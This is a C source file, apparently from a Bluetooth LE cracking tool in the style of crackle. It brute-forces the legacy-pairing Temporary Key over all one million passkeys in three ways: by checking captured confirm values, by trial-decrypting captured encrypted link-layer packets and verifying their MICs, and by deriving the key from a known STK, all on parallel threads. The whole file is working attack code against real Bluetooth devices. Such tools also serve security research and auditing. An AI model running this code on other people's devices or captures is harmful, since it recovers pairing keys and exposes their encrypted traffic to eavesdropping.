/* TK searches for LE legacy pairing (Core Vol 3 Part H §2.3.5.2-5: TK is 0 for Just Works, the passkey
 * 0..999999 for Passkey Entry): by the confirm values (c1, §2.2.3), by decryption when the confirms
 * were missed (s1 §2.2.4, SK Vol 6 Part E §1, CCM MIC Vol 6 Part E §2), and from a known STK. Each
 * search splits the space over threads; every thread has its own keyed-AES object (crypto.h aes_fast). */
#include "crack/crack_int.h"
#include "base/bytes.h"
#include <pthread.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <string.h>

#define TK_SPACE 1000000u
#define CHUNK 8192u

void ps_crack_tk_bytes(uint32_t tk, uint8_t out[16])
{
	memset(out, 0, 16);
	for (int i = 0; i < 4; i++)
		out[i] = (uint8_t)(tk >> (8 * i));
}

/* ---- a generic parallel range search ---- */

struct job;
typedef int (*range_fn)(struct job *j, uint32_t lo, uint32_t hi, uint32_t *tk);
struct shared {
	atomic_uint next;  /* next chunk start */
	atomic_int found;  /* 1 when some thread found it */
	atomic_uint tk;
	const void *arg;
	range_fn fn;
};
struct job {
	struct shared *s;
	const struct ps_crypto *crypto;
	void *fast;
	int rc;
};

static void *worker(void *p)
{
	struct job *j = p;
	j->rc = -PS_ENOENT;
	for (;;) {
		if (atomic_load(&j->s->found))
			break;
		uint32_t lo = atomic_fetch_add(&j->s->next, CHUNK);
		if (lo >= TK_SPACE)
			break;
		uint32_t hi = lo + CHUNK > TK_SPACE ? TK_SPACE : lo + CHUNK, tk;
		int rc = j->s->fn(j, lo, hi, &tk);
		if (rc == 0) {
			int expect = 0;
			if (atomic_compare_exchange_strong(&j->s->found, &expect, 1))
				atomic_store(&j->s->tk, tk);
			j->rc = 0;
			break;
		}
		if (rc != -PS_ENOENT) {
			j->rc = rc;
			atomic_store(&j->s->found, 2); /* stop the others: backend failure */
			break;
		}
	}
	return NULL;
}

/* Run fn over 0..999999 on `threads` threads (the caller's thread is one of them). */
static int run_search(const struct ps_crack_opts *o, range_fn fn, const void *arg, uint32_t *tk)
{
	unsigned n = o->threads ? o->threads : 1;
	if (n > 64)
		n = 64;
	struct shared s = { .arg = arg, .fn = fn };
	atomic_init(&s.next, 0);
	atomic_init(&s.found, 0);
	atomic_init(&s.tk, 0);
	struct job jobs[64];
	pthread_t th[64];
	unsigned started = 0;
	int rc = 0;
	for (unsigned i = 0; i < n; i++)
		jobs[i] = (struct job){ .s = &s, .crypto = o->crypto };
	for (unsigned i = 0; i < n; i++)
		if (o->crypto->aes_fast_new && (rc = o->crypto->aes_fast_new(o->crypto->ctx, &jobs[i].fast)) < 0)
			goto out;
	for (unsigned i = 1; i < n; i++) {
		if (pthread_create(&th[i], NULL, worker, &jobs[i]) != 0)
			break;
		started = i;
	}
	worker(&jobs[0]);
	for (unsigned i = 1; i <= started; i++)
		pthread_join(th[i], NULL);
	rc = -PS_ENOENT;
	if (atomic_load(&s.found) == 1) {
		*tk = atomic_load(&s.tk);
		rc = 0;
	} else {
		for (unsigned i = 0; i <= started; i++)
			if (jobs[i].rc < 0 && jobs[i].rc != -PS_ENOENT)
				rc = jobs[i].rc;
	}
out:
	for (unsigned i = 0; i < n; i++)
		if (jobs[i].fast)
			o->crypto->aes_fast_free(jobs[i].fast);
	return rc;
}

/* One AES block with a fresh key (FIPS order) through the thread's fast object, or the plain op. */
static int aes1(struct job *j, const uint8_t key[16], const uint8_t in[16], uint8_t out[16])
{
	if (j->fast)
		return j->crypto->aes_fast_mac(j->fast, key, in, 1, out);
	return j->crypto->aes128(j->crypto->ctx, key, in, out);
}

/* ---- by confirm ---- */

struct confirm_arg {
	const struct ps_crack_opts *o;
	const struct pairing *p;
	int side; /* which (confirm, rand) pair drives the search */
	uint8_t iat, rat;
	const uint8_t *ia, *ra;
};

static int confirm_range(struct job *j, uint32_t lo, uint32_t hi, uint32_t *tk)
{
	const struct confirm_arg *a = j->s->arg;
	struct ps_crypto_c1_search *cs = NULL;
	int rc = 0;
	if ((rc = ps_crypto_c1_search_new(j->crypto, a->p->rand[a->side], a->p->preq, a->p->pres, a->iat,
						     a->ia, a->rat, a->ra, a->p->confirm[a->side], &cs)) < 0)
		return rc;
	uint32_t from = lo;
	while (from < hi) {
		rc = ps_crypto_c1_search_range(cs, from, hi - from, tk);
		if (rc != 0)
			break;
		/* Check the other side's confirm too when we have it: both must agree. */
		int other = !a->side;
		if (!(a->p->confirm_mask & a->p->rand_mask & (1u << other)))
			break;
		uint8_t k[16], c1[16];
		ps_crack_tk_bytes(*tk, k);
		if ((rc = ps_crypto_c1(j->crypto, k, a->p->rand[other], a->p->preq, a->p->pres, a->iat, a->ia, a->rat,
				       a->ra, c1)) < 0)
			break;
		if (memcmp(c1, a->p->confirm[other], 16) == 0)
			break;
		from = *tk + 1;
		rc = -PS_ENOENT;
	}
	if (cs)
		ps_crypto_c1_search_free(cs);
	return rc;
}

int ps_crack_tk_by_confirm(const struct ps_crack_opts *o, const struct pairing *p, uint8_t iat, const uint8_t ia[6],
			   uint8_t rat, const uint8_t ra[6], uint32_t *tk)
{
	unsigned both = p->confirm_mask & p->rand_mask;
	if (!p->preq_ok || !p->pres_ok || !both)
		return -PS_ENOENT;
	/* confirm[i] pairs with rand[i]: the side that has both drives the search. */
	int side = (both & 1) ? 0 : 1;
	/* One key schedule per candidate through the crypto module (OpenSSL's AES-NI): no AES by hand. */
	struct confirm_arg a = { o, p, side, iat, rat, ia, ra };
	return run_search(o, confirm_range, &a, tk);
}

/* ---- by decryption ---- */

struct dec_arg {
	uint8_t s1_in[16];  /* r1' || r2', AES order */
	uint8_t skd[16];    /* SKDp || SKDc, AES order */
	const uint8_t *iv;
	const struct dsearch_pdu *a, *b;
};

static void nonce_of(uint8_t nonce[13], uint64_t ctr, int dir_central, const uint8_t iv[8])
{
	for (int i = 0; i < 5; i++)
		nonce[i] = (uint8_t)(ctr >> (8 * i));
	nonce[4] = (uint8_t)((nonce[4] & 0x7f) | (dir_central ? 0x80 : 0));
	memcpy(nonce + 5, iv, 8);
}

/* Vol 6 Part E §2: 1 when the MIC verifies under session key key (AES order, as the search derives it;
 * out gets the plaintext), 0 when not. CCM itself is the crypto module's (OpenSSL), never re-implemented. */
static int ccm_check(struct job *j, const uint8_t key[16], const struct dsearch_pdu *d, const uint8_t iv[8],
		     uint8_t *out)
{
	uint8_t sk[16];
	if (d->len > 251)
		return 0;
	ps_rev_copy(sk, key, 16);
	int rc = ps_crypto_ll_decrypt(j->crypto, sk, iv, d->counter, d->dir_central, d->hdr0, d->ct, d->len, d->mic,
				      out);
	if (rc == -PS_ECRYPTO)
		return 0;
	return rc < 0 ? rc : 1;
}

/* The second PDU: its side's counter is not certain when packets were missed (file 03 of crackle lacks
 * the peripheral's LL_START_ENC_RSP), so try both sides and a few counters; rare, only after a first MIC. */
static int second_mic(struct job *j, const uint8_t *key, const struct dec_arg *a, uint8_t *out)
{
	struct dsearch_pdu b = *a->b;
	for (int t = 0; t < 2; t++) {
		b.dir_central = t ? !a->b->dir_central : a->b->dir_central;
		uint64_t base = b.dir_central == a->a->dir_central ? a->a->counter + 1 : 0;
		for (uint64_t k = 0; k < 4; k++) {
			b.counter = base + k;
			int rc = ccm_check(j, key, &b, a->iv, out);
			if (rc)
				return rc;
		}
	}
	return 0;
}

static int dec_range(struct job *j, uint32_t lo, uint32_t hi, uint32_t *tk)
{
	const struct dec_arg *a = j->s->arg;
	uint8_t key[16] = { 0 }, stk[16], sk[16], out[256];
	int rc;
	/* LL_START_ENC_RSP (LL Control, 1 octet): the first keystream octet must turn it into 0x06. */
	bool known = (a->a->hdr0 & 3) == 3 && a->a->len == 1;
	uint8_t a1[16] = { 0x01 };
	nonce_of(a1 + 1, a->a->counter, a->a->dir_central, a->iv);
	a1[15] = 1;
	for (uint32_t v = lo; v < hi; v++) {
		key[12] = (uint8_t)(v >> 24);
		key[13] = (uint8_t)(v >> 16);
		key[14] = (uint8_t)(v >> 8);
		key[15] = (uint8_t)v;
		if ((rc = aes1(j, key, a->s1_in, stk)) < 0 || (rc = aes1(j, stk, a->skd, sk)) < 0)
			return rc;
		if (known) {
			uint8_t s[16];
			if ((rc = aes1(j, sk, a1, s)) < 0)
				return rc;
			if ((uint8_t)(a->a->ct[0] ^ s[0]) != 0x06)
				continue;
		}
		if ((rc = ccm_check(j, sk, a->a, a->iv, out)) < 0)
			return rc;
		if (!rc)
			continue;
		/* One 32-bit MIC is not proof over a million keys: a second PDU must verify too. */
		if ((rc = second_mic(j, sk, a, out)) < 0)
			return rc;
		if (rc) {
			*tk = v;
			return 0;
		}
	}
	return -PS_ENOENT;
}

int ps_crack_tk_by_decryption(const struct ps_crack_opts *o, const uint8_t mrand[16], const uint8_t srand[16],
			      const uint8_t skd_c[8], const uint8_t skd_p[8], const uint8_t iv[8],
			      const struct dsearch_pdu *a, const struct dsearch_pdu *b, uint32_t *tk)
{
	struct dec_arg d = { .iv = iv, .a = a, .b = b };
	if (!b)
		return -PS_EINVAL;
	/* s1 (§2.2.4): r' = r1' || r2', r1' = low 64 bits of Srand (most significant half). */
	ps_rev_copy(d.s1_in, srand, 8);
	ps_rev_copy(d.s1_in + 8, mrand, 8);
	/* Vol 6 Part E §1: SKD = SKDp || SKDc, SKDp most significant. */
	ps_rev_copy(d.skd, skd_p, 8);
	ps_rev_copy(d.skd + 8, skd_c, 8);
	return run_search(o, dec_range, &d, tk);
}

/* ---- from a known STK ---- */

struct stk_arg {
	uint8_t s1_in[16];
	uint8_t want[16];
};

static int stk_range(struct job *j, uint32_t lo, uint32_t hi, uint32_t *tk)
{
	const struct stk_arg *a = j->s->arg;
	uint8_t key[16] = { 0 }, out[16];
	int rc;
	for (uint32_t v = lo; v < hi; v++) {
		key[12] = (uint8_t)(v >> 24);
		key[13] = (uint8_t)(v >> 16);
		key[14] = (uint8_t)(v >> 8);
		key[15] = (uint8_t)v;
		if ((rc = aes1(j, key, a->s1_in, out)) < 0)
			return rc;
		if (memcmp(out, a->want, 16) == 0) {
			*tk = v;
			return 0;
		}
	}
	return -PS_ENOENT;
}

int ps_crack_tk_by_stk(const struct ps_crack_opts *o, const uint8_t mrand[16], const uint8_t srand[16],
		       const uint8_t stk[16], uint32_t *tk)
{
	struct stk_arg a;
	ps_rev_copy(a.s1_in, srand, 8);
	ps_rev_copy(a.s1_in + 8, mrand, 8);
	ps_rev_copy(a.want, stk, 16);
	return run_search(o, stk_range, &a, tk);
}
